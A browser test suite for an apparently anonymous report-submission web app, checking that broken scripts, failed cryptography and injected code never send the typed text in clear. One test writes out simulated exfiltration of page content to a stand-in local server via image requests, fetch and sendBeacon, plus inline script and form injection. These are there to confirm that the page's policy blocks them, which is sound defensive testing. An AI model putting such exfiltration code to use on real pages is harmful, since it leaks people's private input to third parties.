// Scripts that are blocked, cut short or broken: whatever happens, nothing typed leaves in clear.
import { createServer, type Server } from "node:http";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { launch } from "../support/chromium.js";
import { openReport, readyToSend, sayWhat, shownWords } from "../support/reporter.js";
import { freePort, startService, type Service } from "../support/service.js";
import { NOTHING_KEPT, carrying, keptBy, openTab } from "../support/tab.js";

const CANARY = "The canary sang in the custody suite";

let service: Service;
let browser: Browser;

beforeAll(async () => {
  [service, browser] = await Promise.all([startService(), launch()]);
});
afterAll(async () => {
  await browser.close();
  await service.end();
});

test("the watch on what is sent sees a text that is sent", async () => {
  const tab = await openTab(browser, service);
  await tab.page.goto(service.report);
  for (const body of [CANARY, Buffer.from(CANARY).toString("base64"), encodeURIComponent(CANARY)]) {
    await tab.page.evaluate((text) => fetch("/health", { method: "POST", body: text }), body);
  }
  await tab.page.evaluate((text) => fetch(`/health?${new URLSearchParams({ text })}`), CANARY);
  expect(carrying(tab.sent, CANARY)).toHaveLength(4);
  await tab.context.close();
});

test("a page without its script has nothing to type into, and leads to the plain form", async () => {
  const broken: [string, (body: string) => string | null][] = [
    ["blocked", () => null],
    ["half-loaded", (body) => body.slice(0, Math.floor(body.length / 2))],
    ["throwing", (body) => `throw new Error("broken");\n${body}`],
    ["empty", () => ""],
  ];
  for (const script of ["report.js", "return.js"]) {
    for (const [name, change] of broken) {
      const tab = await openTab(browser, service);
      await tab.context.route(`**/assets/${script}`, async (route) => {
        const body = change(await (await route.fetch()).text());
        return body === null
          ? route.abort()
          : route.fulfill({ contentType: "text/javascript", body });
      });
      const address = script === "report.js" ? service.report : service.return;
      await tab.page.goto(address);
      const which = `${script} ${name}`;
      expect(await tab.page.locator("input, textarea, select, form").count(), which).toBe(0);
      await tab.page.click("#plain-route");
      await tab.page.waitForURL(/without-javascript$/);
      await tab.context.close();
    }
  }
});

test("a script whose bytes were changed on the way is refused where it no longer parses", async () => {
  const tab = await openTab(browser, service);
  await tab.context.route("**/assets/report.js", async (route) => {
    const body = await (await route.fetch()).text();
    return route.fulfill({ contentType: "text/html", body });
  });
  await tab.page.goto(service.report);
  await tab.page.waitForSelector("#plain-route");
  expect(await tab.page.locator("#task-what").count()).toBe(0);
  await tab.context.close();
});

test("no field stands in a form, and no name tells what is asked", async () => {
  const tab = await openTab(browser, service);
  const { page } = tab;
  await openReport(page, service);
  for (const topic of ["known", "when", "evidence", "danger", "support"]) {
    await page.click(`#task-${topic}`);
    await page.waitForSelector("#continue");
    const fields = await page.locator("input, textarea, select").evaluateAll((all) =>
      all.map((one) => ({
        form: one.closest("form") !== null,
        name: one.getAttribute("name") ?? "",
      })),
    );
    expect(fields.length).toBeGreaterThan(0);
    for (const { form, name } of fields) {
      expect(form).toBe(false);
      expect(name).toMatch(/^([0-9a-f]{16})?$/);
    }
    await page.click("#back");
  }
  // Enter in a line of text goes nowhere.
  await page.click("#task-known");
  await page.click("#mode-named");
  await page.fill("#name", CANARY);
  await page.press("#name", "Enter");
  expect(page.url()).toBe(service.report);
  // Even a form that something slips into the page can post nothing.
  await page.evaluate((text) => {
    const form = document.createElement("form");
    form.method = "post";
    form.action = "/report/without-javascript";
    const field = document.createElement("input");
    field.name = "what_happened";
    field.value = text;
    form.append(field);
    document.body.append(form);
    form.submit();
  }, CANARY);
  await expect.poll(() => tab.troubles.join()).toMatch(/form-action/);
  expect(page.url()).toBe(service.report);
  expect(carrying(tab.sent, CANARY)).toEqual([]);
  await tab.context.close();
});

test("randomness that fails while sealing sends nothing and keeps the text", async () => {
  const tab = await openTab(browser, service);
  const { page } = tab;
  await readyToSend(page, service, CANARY);
  await page.evaluate(() => {
    crypto.getRandomValues = () => {
      throw new Error("no randomness");
    };
  });
  await page.click("#send");
  await page.waitForSelector("#stopped[data-why=refused]");
  await page.getByText("Nothing that you wrote is lost.").waitFor();
  await page.click("#back-to-check");
  await page.getByText(CANARY).waitFor();
  expect(tab.sent.filter((one) => one.method !== "GET")).toEqual([]);
  expect(carrying(tab.sent, CANARY)).toEqual([]);
  expect(await keptBy(tab)).toEqual(NOTHING_KEPT);
  await tab.context.close();
});

test("cryptography that breaks half-way sends nothing that reads as the report", async () => {
  const tab = await openTab(browser, service);
  const { page } = tab;
  await readyToSend(page, service, CANARY);
  await page.evaluate(() => {
    // The cipher works on these; after some calls everything fails.
    let left = 2_000;
    Uint8Array.prototype.set = new Proxy(Reflect.get(Uint8Array.prototype, "set"), {
      apply(real, bytes, values) {
        if (--left < 0) throw new Error("broken");
        return Reflect.apply(real as () => void, bytes, values) as unknown;
      },
    });
  });
  await page.click("#send");
  await page.waitForSelector("#stopped, #not-sent, #token");
  expect(carrying(tab.sent, CANARY)).toEqual([]);
  await tab.context.close();
});

test("a page that breaks while it is used says so and sends nothing", async () => {
  const tab = await openTab(browser, service);
  const { page } = tab;
  await openReport(page, service);
  await sayWhat(page, CANARY);
  await page.evaluate(() => {
    Object.assign(document, {
      createElement: () => {
        throw new Error("broken");
      },
    });
  });
  await page.click("#task-known");
  // Nothing can be drawn any more; what stands there is at most the page as it was.
  for (const button of await page.locator("button").all()) {
    await button.click({ timeout: 1_000 }).catch(() => null);
  }
  expect(tab.sent.filter((one) => one.method !== "GET")).toEqual([]);
  expect(carrying(tab.sent, CANARY)).toEqual([]);
  await tab.context.close();
});

test("what a slipped-in script reads cannot be sent elsewhere", async () => {
  const elsewhere = await listening();
  const tab = await openTab(browser, service);
  // Nothing but the page's own policy stands in the way here.
  await tab.context.unrouteAll();
  const { page } = tab;
  const tell = async (): Promise<string[]> =>
    page.evaluate(
      async ({ away, text }) => {
        const outcomes: string[] = [];
        const image = new Image();
        image.src = `${away}/image?${new URLSearchParams({ text })}`;
        await new Promise((done) => {
          image.onerror = done;
          image.onload = done;
        });
        await fetch(`${away}/fetch`, { method: "POST", mode: "no-cors", body: text }).then(
          () => outcomes.push("sent"),
          () => outcomes.push("not sent"),
        );
        navigator.sendBeacon(`${away}/beacon`, text);
        const inline = document.createElement("script");
        try {
          inline.textContent = "window.ran = true";
          document.body.append(inline);
        } catch {
          // Trusted Types.
        }
        outcomes.push("ran" in window ? "ran" : "did not run");
        return outcomes;
      },
      { away: elsewhere.origin, text: CANARY },
    );
  // A page without a policy tells everything.
  await page.goto(`${elsewhere.origin}/page`);
  expect(await tell()).toEqual(["sent", "ran"]);
  await expect.poll(() => elsewhere.asked.length).toBe(4);

  elsewhere.asked.length = 0;
  await openReport(page, service);
  await sayWhat(page, CANARY);
  expect(await tell()).toEqual(["not sent", "did not run"]);
  // What is asked next comes after what was tried: by then a beacon would have arrived.
  const other = await tab.context.newPage();
  await other.goto(`${elsewhere.origin}/page`);
  expect(elsewhere.asked).toEqual(["/page"]);
  await tab.context.close();
  elsewhere.server.close();
});

/** Somebody else's server, which remembers what it was asked for. */
async function listening(): Promise<{ server: Server; origin: string; asked: string[] }> {
  const asked: string[] = [];
  const server = createServer((request, answer) => {
    const path = new URL(request.url ?? "/", "http://elsewhere").pathname;
    if (path !== "/favicon.ico") asked.push(path);
    answer.setHeader("Content-Type", "text/html");
    answer.end("<!doctype html><title>Elsewhere</title><body>Elsewhere");
  });
  const port = await freePort();
  await new Promise<void>((done) => server.listen(port, "127.0.0.1", done));
  return { server, origin: `http://127.0.0.1:${String(port)}`, asked };
}

test("too old a browser is told so and shown the plain form", async () => {
  for (const lacking of ["BigInt", "fetch", "TextEncoder", "crypto"]) {
    const tab = await openTab(browser, service);
    await tab.context.addInitScript((name) => {
      Object.defineProperty(window, name, { value: undefined, configurable: true });
    }, lacking);
    for (const address of [service.report, service.return]) {
      await tab.page.goto(address);
      await tab.page.locator("main a[href$='without-javascript']").first().waitFor();
      expect(await tab.page.locator("main input, main textarea").count(), lacking).toBe(0);
    }
    await tab.context.close();
  }
});

test("a typical report is sealed without any storage, WebAssembly or subtle cryptography", async () => {
  const tab = await openTab(browser, service);
  await tab.context.addInitScript(() => {
    for (const name of ["localStorage", "sessionStorage", "indexedDB", "WebAssembly", "caches"]) {
      Object.defineProperty(window, name, { value: undefined, configurable: true });
    }
    Object.defineProperty(Crypto.prototype, "subtle", { value: undefined, configurable: true });
  });
  await readyToSend(tab.page, service, CANARY);
  await tab.page.click("#send");
  expect(await shownWords(tab.page)).toHaveLength(12);
  expect(tab.troubles).toEqual([]);
  await tab.context.close();
});
